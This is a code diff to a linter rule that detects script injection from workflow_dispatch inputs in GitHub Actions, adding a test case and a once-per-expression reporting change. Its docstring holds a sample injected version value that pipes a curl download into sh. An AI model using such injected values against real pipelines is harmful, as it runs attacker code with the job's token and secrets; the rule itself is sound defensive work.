@@ -40,6 +40,23 @@ from aurora_devops.kinds.github.untrusted import flowing, is_code, is_input, is_
             """,
             kind="github-action",
         ),
+        bad(
+            """\
+            on:
+              workflow_dispatch:
+                inputs:
+                  version:
+                    type: string
+            jobs:
+              release:
+                runs-on: ubuntu-24.04
+                steps:
+                  - run: |
+                      make release VERSION="${{ «inputs.version» }}"
+                      make publish VERSION="${{ inputs.version }}"
+            """,
+            because="one finding for each script",
+        ),
         good(
             """\
             on:
@@ -68,11 +85,12 @@ def input_in_script(expression: Expression) -> Iterator[Finding]:
     The caller decides the value: `1"; curl https://example.com/x | sh; "` as a version runs commands with the
     token and the secrets of the job, and a quote in a harmless value breaks the script.
     Pass the value in an environment variable and quote that.
-    Inputs of the types `boolean`, `number`, `choice` and `environment` are not reported.
+    Reported once for each expression in a script. Inputs of the types `boolean`, `number`, `choice` and `environment`
+    are not reported, nor are inputs that each caller in the repository sets to a constant.
 
     https://docs.github.com/en/actions/concepts/security/script-injections
     """
-    if not is_code(expression) or expression.tree is None:
+    if expression.repeated or not is_code(expression) or expression.tree is None:
         return
     for way, tree in flowing(expression.tree):
         ends = list(sources(expression, way))
